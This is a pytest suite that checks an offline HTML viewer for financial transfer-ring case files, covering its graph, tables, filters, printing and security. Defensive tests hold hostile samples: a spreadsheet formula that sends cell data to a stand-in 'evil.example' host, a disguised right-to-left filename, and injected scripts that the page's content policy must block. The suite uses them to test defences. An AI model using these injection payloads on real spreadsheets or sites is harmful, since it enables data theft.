"""The page of a case file, opened in a browser that has no network.

Pages are made by the engine from case files that `tests/viewer/cases.py` invents.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from contextlib import contextmanager
from pathlib import Path

import pytest

import ringfence as rf

ROOT = Path(__file__).resolve().parents[2]
VIEWER = ROOT / "src" / "report" / "viewer"
sys.path.insert(0, str(ROOT / "tests" / "viewer"))

import cases  # noqa: E402

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
BROWSER = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium")
WORDS = json.loads((VIEWER / "words.json").read_text("utf-8"))
# A generous bound, so that a slow machine passes; what is bounded tightly is the work, in elements.
READY_MS = 30_000
CY = "document.getElementById('graph')._cyreg.cy"


def make_page(case: dict) -> str:
    """The page of a case file."""
    return rf.CaseFile.from_json(json.dumps(case)).html()


@pytest.fixture(scope="module")
def browser():
    """A browser; its sandbox cannot be had by root."""
    from playwright.sync_api import Error, sync_playwright

    root = hasattr(os, "geteuid") and os.geteuid() == 0
    with sync_playwright() as driver:
        for trial in range(3):
            try:
                browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"] if root else [])
                break
            except Error:  # On a machine without room to breathe it may die before it has begun.
                if trial == 2:
                    raise
        yield browser
        browser.close()


@pytest.fixture
def opened(browser, tmp_path):
    """Opens pages of cases; at the end nothing may have been asked of a network, refused, or complained about."""

    @contextmanager
    def open_page(case: dict, *, script: bool = True, html: str | None = None):
        path = tmp_path / "case.html"
        path.write_text(html or make_page(case), "utf-8")
        context = browser.new_context(java_script_enabled=script, viewport={"width": 1400, "height": 1000}, offline=True)
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        context.add_init_script(
            "window.refused = []; addEventListener('securitypolicyviolation',"
            " (event) => window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));"
        )
        page, asked, said = context.new_page(), [], []
        context.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        if script:
            page.wait_for_selector("html.ready", timeout=READY_MS)
        yield page
        if script:
            assert page.evaluate("window.refused") == []
            assert page.evaluate("window.pwned") is None
        # The picture saved as PNG is a `data:` address; nothing else is ever asked for.
        assert [url for url in asked if not url.startswith("data:image/png")] == [path.as_uri()]
        assert said == []
        context.close()

    return open_page


def status(page) -> list[int]:
    """Transfers and accounts that pass, of how many."""
    return [int(number) for number in re.findall(r"\d+", page.inner_text("#status").replace(",", ""))]


def column(page, table: str, number: int) -> list[str]:
    """The texts of a column, of the page that is shown."""
    return page.locator(f"#{table} .table tbody tr td:nth-child({number})").all_inner_texts()


def copied(page, table: str) -> list[list[str]]:
    """What the button of a table copies, as rows of cells."""
    page.click(f"#{table} .copy")
    text = page.evaluate("navigator.clipboard.readText()")
    return [line.split("\t") for line in text.removesuffix("\n").split("\n")]


def transfers_of(page) -> str:
    """The section of transfers: called evidence where only evidence is listed without the script."""
    return "evidence" if page.locator("section#evidence").count() else "transfers"


def test_a_page_is_small_and_the_same_each_time():
    case = cases.ring(160, 40, 1000)
    page = make_page(case)
    assert len(page.encode()) < 2_000_000
    assert page == make_page(case)


@BROWSER
@pytest.mark.parametrize("language", ["en", "zh"])
def test_everything_is_drawn(opened, language):
    case = cases.ring(language=language)
    words = WORDS[language]
    with opened(case) as page:
        headings = page.locator("main > section > h2").all_inner_texts()
        keys = "summary reasons counterfactual money explore timeline flow accounts identifiers transfers withheld provenance"
        assert headings == [words[key] for key in keys.split()]
        assert page.title() == case["subject"]["title"]
        # The graph: every account and identifier a node, the transfers from one account to another one arrow.
        pairs = {(one["source"], one["target"]) for one in case["transfers"]}
        assert page.evaluate(f"{CY}.nodes().length") == len(case["accounts"]) + len(case["identifiers"])
        assert page.evaluate(f"{CY}.edges('.pair').length") == len(pairs)
        assert page.evaluate(f"{CY}.nodes('.identifier').every((node) => node.style('shape') === 'diamond')")
        painted = page.evaluate(
            """[...document.querySelectorAll('#graph canvas')].reduce((sum, canvas) => {
                const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
                for (let at = 3; at < data.length; at += 4) if (data[at] > 0) sum += 1;
                return sum;
            }, 0)"""
        )
        assert painted > 10_000
        # The money flow: a box for each node that has a link in the currency, a ribbon for each link.
        links = [link for link in case["flow_links"] if link["amount"]["currency"] == "USD"]
        assert page.locator("#flow .ribbon").count() == len(links)
        boxes = {end for link in links for end in (link["source"], link["target"])}
        assert page.locator("#flow .step-node").count() == len(boxes)
        columns = page.evaluate("new Set([...document.querySelectorAll('.step-node rect')].map((box) => box.getAttribute('x'))).size")
        assert columns == len({case["flow_nodes"][end]["step"] for end in boxes})
        page.select_option("#flow-currency", "JPY")
        assert page.locator("#flow .ribbon").count() == len(case["flow_links"]) - len(links)
        # The timeline: a dot for each transfer in the currency.
        dots = page.evaluate("[...document.querySelectorAll('.timeline .dots')].map((path) => path.getAttribute('d').split('M').length - 1)")
        assert sum(dots[:2]) == sum(one["paid"]["currency"] == "USD" for one in case["transfers"])
        assert dots[1] == sum(one["evidence"] and one["paid"]["currency"] == "USD" for one in case["transfers"])
        assert status(page) == [len(case["transfers"])] * 2 + [len(case["accounts"])] * 2


@BROWSER
@pytest.mark.parametrize("language", ["en", "zh"])
def test_hostile_names_are_shown_and_do_nothing(opened, language):
    case = cases.hostile(language)
    with opened(case) as page:
        assert page.evaluate("[document.images.length, document.scripts.length, document.querySelectorAll('iframe,object,embed,link').length]") == [0, 2, 0]
        # What is shown with the script and without is the same, and nothing in it acts.
        for table in ("accounts", "identifiers"):
            place = 1 if table == "accounts" else 2
            plain = page.evaluate(
                f"""[...document.querySelectorAll('#{table} > .scroll tbody tr')].map((row) => {{
                    const cell = row.children[{place - 1}];
                    return (cell.querySelector('summary bdi') ?? cell.querySelector('bdi')).textContent;
                }})"""
            )
            shown = page.evaluate(f"[...document.querySelectorAll('#{table} .table tbody tr')].map((row) => row.children[{place - 1}].textContent)")
            assert shown == plain[: len(shown)] and len(shown) == min(50, len(case[table]))
            assert not re.search("[\x00-\x1f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", "".join(shown))
            assert len(max(shown, key=len)) < 200
        assert "safe⟦U+202E⟧gpj.exe" in page.inner_text("#accounts .table")
        # A long name is there in full, and can be copied.
        row = cases.HOSTILE.index("x" * 10_000)
        page.locator("#accounts .table button.pick").nth(row).click()
        assert page.inner_text("#details .full") == "x" * 10_000
        page.click("#details .quiet >> nth=0")
        assert page.evaluate("navigator.clipboard.readText()") == "x" * 10_000
        # Every kind of thing can be selected; whatever it is called.
        for table in ("accounts", "identifiers", transfers_of(page)):
            missed = page.evaluate(
                f"""() => [...document.querySelectorAll('#{table} .table tbody tr')].map((row) => Number(row.dataset.row)).filter((at) => {{
                    document.querySelector(`#{table} .table tr[data-row="${{at}}"] button.pick`).click();
                    return !document.querySelector('#details h3') || !document.querySelector(`#{table} .table tr[data-row="${{at}}"].marked`);
                }})"""
            )
            assert missed == []
        page.click("#save-png")


@BROWSER
def test_the_script_and_the_engine_agree_on_what_acts(opened):
    points = [*range(0x3400), *range(0xD7A0, 0xD800), *range(0xF900, 0x10000), *range(0x1F300, 0x1F700), *range(0xE0000, 0xE0200)]
    names = ["".join(map(chr, points[at : at + 60])) for at in range(0, len(points), 60)]
    case = cases.ring(num_members=8 * len(names), num_outside=0, num_transfers=10, identifier_names=names)
    case["accounts"], case["uses"], case["transfers"] = case["accounts"][:2], [], []
    case["flow_nodes"], case["flow_links"], case["claims"], case["counterfactual"] = [], [], [], None
    assert len(case["identifiers"]) == len(names)
    shown = []
    with opened(case) as page:
        texts = "(selector) => [...document.querySelectorAll(selector)].map((one) => one.textContent)"
        plain = page.evaluate(texts, "#identifiers > .scroll tbody td:nth-child(2) bdi")
        while len(shown) < len(plain):
            shown += page.evaluate(texts, "#identifiers .table tbody td:nth-child(2)")
            if len(shown) < len(plain):
                page.click("#identifiers .pager button:last-child")
    assert shown == plain and len(plain) == min(300, len(names))
    assert sum(text.count("⟦U+") for text in shown) > 200


@BROWSER
def test_an_account_and_a_transfer_can_be_selected(opened):
    case = cases.ring()
    place = "(id) => { const cy = %s; const node = cy.getElementById(id); const box = document.getElementById('graph').getBoundingClientRect();" % CY
    with opened(case) as page:
        page.locator("#graph").scroll_into_view_if_needed()
        # Something above it grows, so that the graph moves.
        page.evaluate("() => document.getElementById('money').append(Object.assign(document.createElement('p'), { textContent: 'One more line.' }))")
        # By clicking into the graph.
        at = page.evaluate(f"{place} const at = node.renderedPosition(); return [box.x + at.x, box.y + at.y]; }}", "a5")
        page.mouse.click(*at)
        name = case["accounts"][5]["id"]
        assert page.inner_text("#details h3") == name
        assert page.locator("#accounts tr.marked button.pick").all_inner_texts() == [
            one["id"]
            for number, one in enumerate(case["accounts"])
            if number == 5 or any({transfer["source"], transfer["target"]} == {5, number} for transfer in case["transfers"])
        ]
        own = {number for number, one in enumerate(case["transfers"]) if 5 in (one["source"], one["target"])}
        assert len(own) > 0
        chosen = page.evaluate(f"{CY}.elements('.chosen').map((one) => one.id())")
        faded = page.evaluate(f"{CY}.nodes('.account.faded').length")
        assert chosen == ["a5"] and 0 < faded < len(case["accounts"]) - 1
        # The rows of what is selected, and their sum.
        section = transfers_of(page)
        page.locator(f"#{section} .bar input[type=checkbox]").nth(1).check()
        rows = copied(page, section)[1:]
        assert [row[0] for row in rows] == [case["transfers"][number]["id"] for number in sorted(own)]
        paid = sum(int(case["transfers"][number]["paid"]["minor"]) for number in own if case["transfers"][number]["source"] == 5 and case["transfers"][number]["paid"]["currency"] == "USD")
        assert f"{paid // 100:,}.{paid % 100:02d} USD" in page.inner_text("#details")
        page.locator(f"#{section} .bar input[type=checkbox]").nth(1).uncheck()
        # A transfer, from the table; then the arrow of a pair with several.
        page.locator(f"#{section} .table button.pick").first.click()
        assert page.inner_text("#details h3") == case["transfers"][0]["id"]
        assert case["transfers"][0]["paid"]["currency"] in page.inner_text("#details")
        assert page.locator(f"#{section} tr.marked").count() == 1
        several = page.evaluate(f"{CY}.edges('.pair').filter((edge) => edge.data('label').includes('×') && edge.visible())[0].id()")
        page.evaluate(f"() => {{ {CY}.getElementById('{several}').emit('tap'); }}")
        ends = page.evaluate(f"[{CY}.getElementById('{several}').source().data('at'), {CY}.getElementById('{several}').target().data('at')]")
        between = [one for one in case["transfers"] if [one["source"], one["target"]] == ends]
        assert len(between) > 1 and page.locator("#details ul.transfers li").count() == len(between)
        assert page.evaluate(f"{CY}.getElementById('{several}').data('label')").startswith(f"{len(between)} × Σ ")
        page.click("#clear")
        assert page.evaluate(f"{CY}.elements('.faded').length") == 0


@BROWSER
def test_reasons_lead_to_what_they_rest_on(opened):
    case = cases.ring()
    with opened(case) as page:
        for at, claim in enumerate(case["claims"]):
            page.locator(".show-claim").nth(at).click()
            marked = page.evaluate(f"{CY}.edges('.pair.beside').length")
            assert marked == len({(case["transfers"][place]["source"], case["transfers"][place]["target"]) for place in claim["transfers"]})
            assert claim["text"] in page.inner_text("#details h3")
            assert page.locator("#identifiers tr.marked").count() == len(claim["identifiers"])
            page.select_option("#claim", str(at))
            assert status(page)[0] == len(claim["transfers"])
        page.click("#reset")
        page.check("#evidence-only")
        assert status(page)[0] == sum(one["evidence"] for one in case["transfers"])


@BROWSER
def test_time_and_amount_filter(opened):
    case = cases.ring()
    transfers = case["transfers"]

    def passing(keep) -> list[int]:
        kept = [one for one in transfers if keep(one)]
        accounts = {end for one in kept for end in (one["source"], one["target"])}
        return [len(kept), len(transfers), len(accounts), len(case["accounts"])]

    def instant(time: str) -> str:
        return time[:-1].ljust(26, "0") if "." in time else f"{time[:-1]}.".ljust(26, "0")

    with opened(case) as page:
        first, last = transfers[40]["time"][:19], transfers[90]["time"][:10]
        page.fill("#from-time", first.replace("T", " "))
        page.press("#from-time", "Enter")
        page.fill("#to-time", last)
        page.press("#to-time", "Tab")
        within = lambda one: f"{first}.000000" <= instant(one["time"]) <= f"{last}T23:59:59.999999"  # noqa: E731
        assert status(page) == passing(within) and 0 < status(page)[0] < len(transfers)
        section = transfers_of(page)
        assert len(copied(page, section)) == 1 + status(page)[0]
        assert page.evaluate(f"{CY}.edges('.pair').filter((edge) => edge.visible()).length") == len({(one["source"], one["target"]) for one in transfers if within(one)})
        # Amounts are of one currency, and compared exactly.
        page.fill("#amount-min", "1,000.005")
        page.press("#amount-min", "Tab")
        assert page.inner_text("#filter-message") == WORDS["en"]["choose_currency"]
        assert status(page) == passing(within)
        page.select_option("#currency", "USD")
        minor = lambda one: int(one["paid"]["minor"])  # noqa: E731
        assert status(page) == passing(lambda one: within(one) and one["paid"]["currency"] == "USD" and minor(one) >= 100_001)
        page.fill("#amount-max", "9999.999")
        page.press("#amount-max", "Tab")
        assert status(page) == passing(lambda one: within(one) and one["paid"]["currency"] == "USD" and 100_001 <= minor(one) <= 999_999)
        # What is no moment and no amount is said, and filters nothing.
        for field, key in (("#amount-min", "bad_amount"), ("#to-time", "bad_time")):
            page.click("#reset")
            assert status(page) == [len(transfers), len(transfers), len(case["accounts"]), len(case["accounts"])]
            page.select_option("#currency", "USD")
            page.fill(field, "1e3")
            page.press(field, "Tab")
            assert WORDS["en"][key].split("{")[0] in page.inner_text("#filter-message")
            assert page.get_attribute(field, "aria-invalid") == "true"
            assert status(page) == passing(lambda one: one["paid"]["currency"] == "USD")
        # Dragging across the timeline filters, and the fields say so.
        page.click("#reset")
        box = page.locator(".timeline").bounding_box()
        page.locator(".timeline").scroll_into_view_if_needed()
        box = page.locator(".timeline").bounding_box()
        page.mouse.move(box["x"] + box["width"] * 0.3, box["y"] + 30)
        page.mouse.down()
        page.mouse.move(box["x"] + box["width"] * 0.6, box["y"] + 60, steps=4)
        page.mouse.up()
        start, end = page.input_value("#from-time").replace(" ", "T"), page.input_value("#to-time").replace(" ", "T")
        assert status(page) == passing(lambda one: f"{start}.000000" <= instant(one["time"]) <= f"{end}.999999")
        assert 0 < status(page)[0] < len(transfers)


@BROWSER
def test_amounts_stay_exact_beyond_what_a_float_holds(opened):
    case = cases.ring(8, 3, 40, currencies=("USD",))
    for at, minor in enumerate([9_007_199_254_740_993, 9_007_199_254_740_992, 9_223_372_036_854_775_807]):
        case["transfers"][at].update(source=1, target=2, paid=cases.amount("USD", minor), received=None)
    mine = [int(one["paid"]["minor"]) for one in case["transfers"] if (one["source"], one["target"]) == (1, 2)]
    with opened(case) as page:
        section = transfers_of(page)
        page.locator(f"#{section} th button").nth(4).click()
        page.locator(f"#{section} th button").nth(4).click()
        assert column(page, section, 5)[:3] == ["92,233,720,368,547,758.07 USD", "90,071,992,547,409.93 USD", "90,071,992,547,409.92 USD"]
        page.fill("#amount-min", "90071992547409.93")
        page.press("#amount-min", "Tab")
        assert status(page)[0] == 2
        page.click("#reset")
        page.evaluate(f"() => {{ {CY}.edges('.pair').filter((edge) => edge.source().id() === 'a1' && edge.target().id() === 'a2')[0].emit('tap'); }}")
        assert f"{sum(mine) // 100:,}.{sum(mine) % 100:02d} USD" in page.inner_text("#details")


@BROWSER
def test_tables_sort_filter_page_and_copy(opened):
    case = cases.ring(currencies=("USD",))
    with opened(case) as page:
        section = transfers_of(page)
        ids = [one["id"] for one in case["transfers"]]
        assert column(page, section, 1) == ids[:50]
        page.click(f"#{section} .pager button:last-child")
        assert column(page, section, 1) == ids[50:100]
        paid = sorted(range(len(ids)), key=lambda at: int(case["transfers"][at]["paid"]["minor"]))
        page.locator(f"#{section} th button").nth(4).click()
        assert column(page, section, 1) == [ids[at] for at in paid[:50]]
        assert page.locator(f"#{section} th").nth(4).get_attribute("aria-sort") == "ascending"
        page.locator(f"#{section} th button").nth(4).click()
        rows = copied(page, section)
        assert [row[0] for row in rows[1:]] == [ids[at] for at in sorted(range(len(ids)), key=lambda at: (-int(case["transfers"][at]["paid"]["minor"]), at))]
        assert {len(row) for row in rows} == {10} and rows[0][1] == WORDS["en"]["time_utc"]
        wanted = case["accounts"][3]["id"]
        page.fill(f"#{section} .table input[type=search]", wanted.lower())
        assert len(copied(page, section)) == 1 + sum(3 in (one["source"], one["target"]) for one in case["transfers"])


@BROWSER
def test_copied_cells_are_no_formulas(opened):
    case = cases.hostile()
    with opened(case) as page:
        rows = copied(page, "accounts")
        assert len(rows) == 1 + len(case["accounts"]) and len({len(row) for row in rows}) == 1
        cells = [cell for row in rows for cell in row]
        assert not any(re.match(r"[=+\-@]", cell) for cell in cells)
        assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'@SUM(1)", "'-2+3", "'+1"} <= set(cells)
        # Where a browser has no clipboard for pages, the older way is taken.
        page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('refused')); }")
        page.fill("#accounts .table input[type=search]", "张伟")
        rows = copied(page, "accounts")
        assert [row[0] for row in rows[1:]] == ["张伟的账户", "张伟的账户'"]


@BROWSER
def test_accounts_outside_fold_and_unfold(opened):
    case = cases.ring(40, 80, 400)
    visible = f"{CY}.nodes('.outside').filter((node) => node.visible()).length"
    with opened(case) as page:
        assert page.evaluate(visible) == 0 and page.evaluate(f"{CY}.getElementById('fold').visible()")
        assert page.evaluate(f"{CY}.edges('.folded').length") > 0
        beside = {one["source"] for one in case["transfers"] if one["target"] == 2} | {one["target"] for one in case["transfers"] if one["source"] == 2}
        beside = {place for place in beside if place >= 40}
        page.fill("#find", case["accounts"][2]["id"])
        page.press("#find", "Enter")
        page.click("#beside")
        assert page.evaluate(visible) == len(beside) > 0
        page.click("#beside")
        assert page.evaluate(visible) == 0
        page.click("#outside-show")
        assert page.evaluate(visible) == 80 and page.evaluate(f"{CY}.getElementById('fold').length") == 0


@BROWSER
def test_it_can_be_used_without_a_mouse(opened):
    case = cases.ring()
    with opened(case) as page:
        reached = set()
        for _ in range(80):
            page.keyboard.press("Tab")
            reached.add(page.evaluate("document.activeElement.id || document.activeElement.getAttribute('class')"))
        assert {"skip", "from-time", "amount-min", "claim", "find", "fit", "graph"} <= reached
        page.focus("#graph")
        before = page.evaluate(f"{CY}.pan().x")
        page.keyboard.press("ArrowLeft")
        assert page.evaluate(f"{CY}.pan().x") == before + 60
        page.keyboard.press("n")
        assert page.inner_text("#details h3") == case["accounts"][0]["id"]
        assert case["accounts"][0]["id"] in page.inner_text("#live")
        page.keyboard.press("Escape")
        assert page.locator("#details h3").count() == 0
        page.locator("#flow .step-node").first.focus()
        page.keyboard.press("Enter")
        assert page.locator("#details h3").count() == 1
        nameless = page.evaluate(
            """[...document.querySelectorAll('button, input, select, [role], aside, nav')].filter((one) =>
                !(one.getAttribute('aria-label') || one.textContent.trim() || one.closest('label')?.textContent.trim() || one.getAttribute('role') === 'alert' || one.tagName === 'OUTPUT'
                  || one.getAttribute('role') === 'status')).map((one) => one.outerHTML)"""
        )
        assert nameless == []


@BROWSER
def test_texts_stand_out_from_what_is_behind_them(opened):
    with opened(cases.ring(summarised=True)) as page:
        page.click(".show-claim >> nth=0")
        faint = page.evaluate(
            """(() => {
                const parse = (text) => (text.match(/[\\d.]+/g) ?? []).map(Number);
                const light = ([r, g, b]) => [r, g, b].map((c) => c / 255).map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)).reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
                const behind = (one) => {
                    for (let up = one; up; up = up.parentElement) {
                        const colour = parse(getComputedStyle(up).backgroundColor);
                        if (colour.length && colour[3] !== 0) return colour;
                    }
                    return [255, 255, 255];
                };
                const texts = [...document.querySelectorAll('body *')].filter((one) => one.checkVisibility() && !one.disabled && !one.closest('svg')
                    && [...one.childNodes].some((child) => child.nodeType === 3 && child.data.trim()));
                return texts.map((one) => {
                    const [a, b] = [light(parse(getComputedStyle(one).color)), light(behind(one))];
                    return [(Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05), one.outerHTML.slice(0, 80)];
                }).filter(([contrast]) => contrast < 4.5);
            })()"""
        )
        assert faint == []


@BROWSER
def test_it_prints(opened, tmp_path):
    from pypdf import PdfReader

    case = cases.ring(summarised=True)
    with opened(case) as page:
        page.pdf(path=tmp_path / "case.pdf", format="A4", print_background=True)
        assert page.locator(".still svg").count() == 0, "the picture for paper is taken away again"
    pages = [page.extract_text() for page in PdfReader(tmp_path / "case.pdf").pages]
    # NFKC: the font writes "fi" as one character.
    text = " ".join(unicodedata.normalize("NFKC", " ".join(pages)).split())
    assert 4 <= len(pages) <= 20
    words = WORDS["en"]
    for expected in (
        case["subject"]["title"],
        words["summarised"],
        words["printed_view"],
        words["flow"],
        words["evidence"],
        case["withheld"][0],
        case["provenance"]["graph"]["sha256"][:20],
        "17.167 bits",
        *(claim["text"] for claim in case["claims"]),
        *(case["transfers"][at]["id"] for at, one in enumerate(case["transfers"]) if one["evidence"]),
    ):
        assert expected in text
    for absent in (words["copy_rows"], words["fit"], words["show_in_graph"]):
        assert absent not in text


@BROWSER
def test_it_can_be_read_without_its_script(opened):
    case = cases.ring(summarised=True)
    with opened(case, script=False) as page:
        text = page.inner_text("body")
        assert WORDS["en"]["script_needed"] in text and case["summarised"]["text"] in text
        for claim in case["claims"]:
            assert claim["text"] in text
        evidence = [one["id"] for one in case["transfers"] if one["evidence"]]
        assert len(evidence) > 10 and all(name in text for name in evidence)
        assert all(account["id"] in text for account in case["accounts"])
        assert not page.locator("#explore").is_visible()
        # Static pictures stand for what the script draws.
        stills = page.locator("noscript svg")
        assert stills.count() == 3
        assert all(stills.nth(place).is_visible() for place in range(3))


@BROWSER
@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_case_without_anything_is_a_page(opened, language):
    case = cases.ring(language=language)
    for key, value in case.items():
        if isinstance(value, list):
            case[key] = []
    case.update(score_millibits=None, counterfactual=None, provenance=None)
    case["subject"].update(kind="trace", first=None, last=None)
    with opened(case) as page:
        assert WORDS[language]["case_trace"] in page.text_content("header")
        assert status(page) == [0, 0, 0, 0]
        assert WORDS[language]["flow_none"] in page.inner_text("#flow")
        assert WORDS[language]["timeline_none"] in page.inner_text("#timeline")
        assert WORDS[language]["withheld_none"] in page.inner_text("#withheld")
        page.focus("#graph")
        for key in ("n", "p", "0", "+", "Escape"):
            page.keyboard.press(key)


@pytest.mark.parametrize(
    ("where", "change"),
    [
        ("transfers", lambda case: case["transfers"][3].update(source=4_000_000_000)),
        ("uses", lambda case: case["uses"][0].update(account=4_000_000_000)),
        ("claims", lambda case: case["claims"][0]["transfers"].append(4_000_000_000)),
        ("counterfactual", lambda case: case["counterfactual"]["transfers"].append(4_000_000_000)),
        ("flow_nodes", lambda case: case["flow_nodes"][0].update(account=4_000_000_000)),
        ("flow_links", lambda case: case["flow_links"][0].update(source=4_000_000_000)),
    ],
)
def test_places_outside_their_lists_are_refused(where, change):
    case = cases.ring()
    change(case)
    with pytest.raises(rf.InputError, match=where):
        make_page(case)


@BROWSER
def test_a_flow_that_goes_back_is_left_out(opened):
    case = cases.ring()
    # A link back would make a cycle; a flow has none.
    back = case["flow_links"][1]
    back["source"], back["target"] = back["target"], back["source"]
    with opened(case) as page:
        page.locator("#flow .step-node").first.click()
        kept = case["flow_links"][:1] + case["flow_links"][2:]
        drawn = [link for link in kept if link["amount"]["currency"] == "USD"]
        assert page.locator("#flow .ribbon").count() == len(drawn)


@BROWSER
def test_a_changed_script_does_not_run(browser, tmp_path):
    path = tmp_path / "case.html"
    changed = make_page(cases.ring()).replace("<script>/*", "<script>window.pwned=1;/*")
    assert "window.pwned=1" in changed
    path.write_text(changed.replace("</body>", "<img src='http://127.0.0.1:9/x.png'><script>window.pwned=2</script></body>"), "utf-8")
    context = browser.new_context()
    page, failed = context.new_page(), []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    page.goto(path.as_uri())
    assert page.evaluate("window.pwned") is None
    assert page.locator("html.ready").count() == 0
    assert all("csp" in failure for failure in failed)
    assert page.locator(".scriptless").is_visible()
    context.close()


@BROWSER
def test_a_ring_of_two_thousand_accounts_stays_quick(opened):
    case = cases.ring(1600, 400, 8000, summarised=True)
    with opened(case) as page:
        assert WORDS["en"]["summarised"] in page.inner_text("#summarised")
        # The work is bounded: rows of one page, one arrow a pair, at most 160 ribbons, three paths of dots.
        assert page.locator(".table tbody tr").count() <= 4 * 50
        assert page.locator("#flow .ribbon").count() == 160
        assert page.locator(".timeline .dots").count() == 3
        assert page.evaluate("document.querySelectorAll('.table *, .drawn *').length") < 6_000
        assert page.evaluate(f"{CY}.nodes().length") == len(case["accounts"]) + len(case["identifiers"]) + 1
        pairs = {(one["source"], one["target"]) for one in case["transfers"]}
        assert page.evaluate(f"{CY}.edges('.pair').not('.folded').length") == len(pairs)
        page.fill("#find", case["accounts"][1234]["id"])
        page.press("#find", "Enter")
        assert page.inner_text("#details h3") == case["accounts"][1234]["id"]
        assert page.evaluate(f"{CY}.zoom()") >= 0.7, "what is selected is too small to be read"
        page.check("#evidence-only")
        assert status(page)[0] == sum(one["evidence"] for one in case["transfers"])


def test_the_checked_in_script_is_what_its_sources_build(tmp_path):
    if not (shutil.which("node") and shutil.which("npm")):
        pytest.skip("needs node and npm")
    copy = tmp_path / "viewer"
    shutil.copytree(VIEWER, copy, ignore=shutil.ignore_patterns("node_modules", "case.*", "licences.txt"))
    installed = subprocess.run(["npm", "ci", "--silent"], cwd=copy, capture_output=True, text=True)
    if installed.returncode != 0 and re.search("ENOTFOUND|EAI_AGAIN|ECONNREFUSED|ETIMEDOUT|ENETUNREACH", installed.stdout + installed.stderr):
        pytest.skip("npm reaches no registry")
    assert installed.returncode == 0, installed.stderr
    subprocess.run(["npm", "run", "build"], cwd=copy, check=True, capture_output=True)
    for name in ("case.min.js", "case.css", "licences.txt"):
        assert (copy / name).read_bytes() == (VIEWER / name).read_bytes(), f"{name} is not what its sources build: run make viewer"
